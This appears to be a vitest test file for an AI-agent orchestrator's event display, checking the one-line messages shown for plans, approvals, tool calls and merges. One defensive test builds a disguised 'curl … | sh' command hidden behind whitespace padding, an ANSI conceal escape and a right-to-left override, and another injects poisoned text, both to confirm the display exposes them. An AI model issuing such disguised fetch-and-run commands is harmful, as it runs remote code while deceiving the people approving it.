import {describe, expect, test} from 'vitest';
import {applyEvent} from '../../source/core/fold.ts';
import {runEventSchema, type RunEvent, type RunEventType} from '../../source/core/run-event.ts';
import {emptyRunState, type RunState} from '../../source/core/run-state.ts';
import {lineOf} from '../../source/present/event-line.ts';
import {everyEvent, placed, poisoned} from '../core/every-event.ts';
import {poison, unprintable} from '../core/hostile.ts';

/** What a person is told of each event, `undefined` for what only machines need. */
const told: {readonly [Type in RunEventType]: string | undefined} = {
	'run-started': undefined,
	'run-resumed': 'heading run | resumed r1',
	'run-paused': 'warning run | paused by you',
	'run-unpaused': 'plain run | unpaused',
	'run-finished': undefined,
	'run-stopped': undefined,
	'workspace-prepared': 'quiet run | took a snapshot of the repository: 12 files',
	'planning-started': 'plain lead | planning revision 2',
	'plan-refused':
		'warning lead | proposed an invalid plan (try 2): "x" is not a subtask of this plan; the dependencies form a cycle: a → b → a',
	'plan-proposed': 'heading lead | proposed revision 1 of the plan: 1 subtask',
	'revision-requested': 'heading lead | will revise the plan now: smaller steps',
	'plan-judged': undefined,
	'approval-requested': 'warning teammate-1 | asks for bash: npm install left-pad',
	'approval-decided': "bad run | teammate-1's request rejected by you: use what is there",
	'subtasks-ready': undefined,
	'subtask-started': 'plain parse | teammate-1 starts (attempt 2)',
	'attempt-restarted': 'warning parse | starts over: the process ended',
	'attempt-finished': undefined,
	'attempt-failed':
		'warning parse | attempt 2 failed: the server is busy [rate-limit] → wait a little; retrying',
	'check-started': undefined,
	'check-finished': 'bad parse | check test FAILED (1.2 s)',
	'verification-finished': undefined,
	'merge-started': undefined,
	'merge-finished': 'quiet parse | merged src/a.ts',
	'merge-refused': 'warning parse | cannot merge: conflict in src/a.ts',
	'subtask-completed': 'good parse | ✓ parses lines',
	'subtask-failed': 'bad parse | ✗ failed [rate-limit]',
	'subtask-skipped': 'quiet report | – skipped: "parse" failed',
	'subtask-cancelled': 'warning parse | ⊘ cancelled by you',
	'subtask-reopened': 'plain parse | queued for retry',
	'cancel-requested': 'warning parse | cancelling',
	'agent-started': undefined,
	'agent-finished': undefined,
	'agent-waiting':
		'warning teammate-1 | waiting for the rate limit until 10:00:30 UTC: the server is busy',
	'agent-resumed': undefined,
	'model-call-started': undefined,
	'model-call-finished': 'quiet teammate-1 | I look at the parser.',
	'model-call-failed':
		'warning teammate-1 | call failed (try 1, retrying in 1.5 s): the server is busy [rate-limit] → wait a little',
	'tool-call-started': 'quiet teammate-1 | → edit_file src/a.ts (+3 −1)',
	'tool-call-finished': undefined,
	'turn-interrupted': 'warning teammate-1 | interrupted by you',
	'message-sent': 'plain teammate-1 | to teammate-2: the format is JSON',
	'message-delivered': undefined,
	'model-switched': 'warning teammate-1 | switched from openai big to ollama small (quota)',
	'context-compacted':
		'quiet teammate-1 | compacted its conversation: it takes 9000 of 8192 tokens',
	'budget-warned': 'warning run | 80.0k of 100k tokens and $4.00 of $5.00 used',
	'budget-changed': 'plain run | budget is now 200k tokens and $10.00',
	'delivery-started': undefined,
	'delivery-finished':
		'good run | left the directory unchanged; the change is on branch llm-orchestrator/r1',
	'undo-started': undefined,
	'undo-finished': 'plain run | undid changes to 1 file, kept src/b.ts (changed since)',
	'inbox-refused': 'warning run | refused a command: it is not JSON',
};

/** Each event with the state that it leads to, as in a log. */
const story = everyEvent.map((event, index) => ({
	event,
	state: () =>
		everyEvent
			.slice(0, index + 1)
			.reduce((state, past) => applyEvent(state, past), emptyRunState()),
}));

describe('what a person is told of an event', () => {
	test.each(story.map(({event, state}) => [event.type, event, state] as const))(
		'is one line at most: %s',
		(type, event, state) => {
			expect(show(event, state())).toBe(told[type]);
		},
	);

	test.each([
		[{type: 'planning-started', revision: 1}, 'plain lead | planning the task'],
		[
			{type: 'plan-proposed', revision: 1, hash: 'x', plan: '{}', origin: 'fallback'},
			'warning lead | no valid plan, so ONE SUBTASK does the whole task',
		],
		[
			{type: 'plan-proposed', revision: 1, hash: 'x', plan: '{}', origin: 'file'},
			'heading run | using your plan, revision 1: 0 subtasks',
		],
		[
			{type: 'plan-proposed', revision: 3, hash: 'x', plan: '{}', origin: 'person'},
			'heading run | you edited the plan, revision 3: 0 subtasks',
		],
		[
			{type: 'subtask-started', subtask: 'a', attempt: 1, agent: 't1', base: 'b'},
			'plain a | t1 starts',
		],
		[
			{
				type: 'attempt-failed',
				subtask: 'a',
				attempt: 1,
				agent: 't1',
				failure: {kind: 'stalled', message: 'silence'},
				strategy: 'give-up',
			},
			'warning a | attempt 1 failed: silence [stalled]; no attempts left',
		],
		[
			{
				type: 'check-finished',
				place: 'whole',
				check: 'lint',
				passed: true,
				exitCode: 0,
				durationMs: 61_000,
				output: '',
			},
			'good final | check lint passed (1 min 01 s)',
		],
		[
			{
				type: 'check-finished',
				subtask: 'a',
				attempt: 1,
				place: 'merged',
				check: 'lint',
				passed: false,
				exitCode: 1,
				durationMs: 100,
				output: '',
			},
			'bad a | check lint FAILED on the merged result (0.1 s)',
		],
		[
			{type: 'merge-refused', subtask: 'a', attempt: 1, paths: []},
			'warning a | cannot merge: its checks fail on the merged result',
		],
		[
			{type: 'subtask-completed', subtask: 'a', attempt: 1, summary: '', outputs: {}},
			'good a | ✓ done',
		],
		[{type: 'cancel-requested'}, 'warning run | cancelling'],
		[{type: 'agent-waiting', agent: 'lead', for: 'slot'}, 'warning lead | waiting for a slot'],
		[{type: 'agent-waiting', agent: 't1', for: 'approval', detail: 'npm test'}, undefined],
		[
			{type: 'agent-waiting', agent: 't1', for: 'message', detail: 'you interrupted it'},
			'warning t1 | waiting for your message: you interrupted it',
		],
		[
			{
				type: 'model-call-failed',
				agent: 'lead',
				call: 'c',
				failure: {kind: 'auth', message: 'no key'},
				try: 1,
			},
			'bad lead | no key [auth]',
		],
		[{type: 'budget-changed', maxTokens: null}, 'plain run | budget is now unlimited tokens'],
		[{type: 'delivery-finished', mode: 'apply', files: []}, 'good run | nothing changed'],
		[
			{type: 'delivery-finished', mode: 'apply', files: ['a', 'b']},
			'good run | wrote 2 changed files to the directory',
		],
		[
			{type: 'delivery-finished', mode: 'patch', files: ['a'], target: '/x.patch'},
			'good run | left the directory unchanged; the change is in /x.patch',
		],
		[{type: 'undo-finished', files: ['a', 'b'], kept: []}, 'plain run | undid changes to 2 files'],
	] as const)('tells the cases apart: %#', (body, line) => {
		expect(
			show(runEventSchema.parse(placed(structuredClone(body) as never)), emptyRunState()),
		).toBe(line);
	});

	test.each([
		['person', 'you'],
		['criteria', 'the criteria'],
		['all', '--approve all'],
		['nobody', 'default: no one could be asked'],
		['deadline', 'default: the decision timed out'],
	] as const)('says who decided: %s', (origin, words) => {
		const event = placed({
			type: 'approval-decided',
			approval: 'plan-1',
			decision: 'approve',
			scope: 'once',
			origin,
		});
		expect(show(event, emptyRunState())).toBe(`good run | plan-1 approved by ${words}`);
	});

	test('leaves what the lead says to its plan', () => {
		const said = everyEvent.find(({type}) => type === 'model-call-finished');
		expect(said?.type).toBe('model-call-finished');
		if (said?.type !== 'model-call-finished') {
			return;
		}
		const {subtask: _, ...lead} = said;
		expect(show(lead, emptyRunState())).toBeUndefined();
	});

	test('shows a whole command, and what hides in it', () => {
		const detail = `curl -s x${' '.repeat(300)}| sh \u001B[8m#\u202E`;
		const event = placed({
			type: 'approval-requested',
			approval: 't',
			subject: {
				kind: 'tool',
				agent: 'a',
				tool: 'bash',
				summary: 'a call',
				detail,
				directory: '/w',
				reason: 'r',
			},
		});
		expect(show(event, emptyRunState())).toBe(
			`warning a | asks for bash: curl -s x${' '.repeat(300)}| sh \\x1b[8m#\\u{202e}`,
		);
	});
});

describe('hostile text', () => {
	test.each(story.map(({event, state}) => [event.type, event, state] as const))(
		'never reaches a terminal, and stays on its line: %s',
		(_, event, state) => {
			const hostile = runEventSchema.parse(poisoned(event, `${poison}\nsecond line`));
			const line = lineOf(hostile, applyEvent(state(), hostile));
			expect(line === undefined).toBe(told[event.type] === undefined);
			expect(line?.text ?? '').not.toMatch(unprintable);
			expect(line?.text ?? '').not.toMatch(/[\n\t]/);
			expect(line?.subject ?? '').not.toMatch(unprintable);
			expect(line?.subject ?? '').not.toMatch(/[\n\t]/);
		},
	);
});

function show(event: RunEvent, state: RunState): string | undefined {
	const line = lineOf(event, state);
	return line && `${line.tone} ${line.subject} | ${line.text}`;
}
